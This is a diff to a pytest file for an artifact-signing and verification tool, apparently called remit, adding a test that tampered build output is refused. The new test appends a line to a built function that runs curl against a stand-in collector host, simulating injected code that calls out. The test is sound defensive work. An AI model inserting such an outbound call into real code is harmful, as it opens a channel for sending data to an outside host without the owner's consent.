@@ -86,7 +86,8 @@ def test_only_what_was_approved_runs(app: Path, tmp_path: Path) -> None:
     assert again.stdout.split()[0] == built.stdout.split()[0]
 
     verified = remit("ship", "verify", "--key", "remit.key.pub", "--template", "template.yaml", cwd=app)
-    assert (verified.returncode, verified.stdout) == (0, "verified: 1 functions are what was built and signed\n")
+    assert (verified.returncode, verified.stdout) == (0, "verified: 1 function is what was built and signed\n")
+    assert verified.stderr == "Hello: nothing starts the remit-guard in its zip\n"
 
     code = unpack(app / "build/ship", tmp_path / "task")
     answer, signals = run(code)
@@ -112,6 +113,20 @@ def test_only_what_was_approved_runs(app: Path, tmp_path: Path) -> None:
     answer, signals = run(code, REMIT_MODE="block")
     assert [(signal["rule"], signal["verdict"]) for signal in signals][:1] == [("code-changed", "block")]
     assert answer != {"statusCode": 200, "body": "Hello"}
+
+
+def test_what_lies_in_the_artifacts_is_compared_with_the_lock_too(app: Path) -> None:
+    remit("ship", "keygen", cwd=app)
+    remit("lock", cwd=app)
+    made = app / ".aws-sam/build/Hello"
+    shutil.copytree(app / "src", made)
+    build = ("ship", "build", "--key", "remit.key", "--artifacts", ".aws-sam/build")
+    assert remit(*build, cwd=app).returncode == 0
+    with (made / "greeting.py").open("a") as file:
+        file.write("import subprocess\nsubprocess.run(['curl', 'https://collector.example'])\n")
+    refused = remit(*build, cwd=app)
+    assert refused.returncode == 4
+    assert "Hello + runs curl" in refused.stderr
 
 
 def test_new_needs_are_not_built_under_an_old_lock(app: Path) -> None:
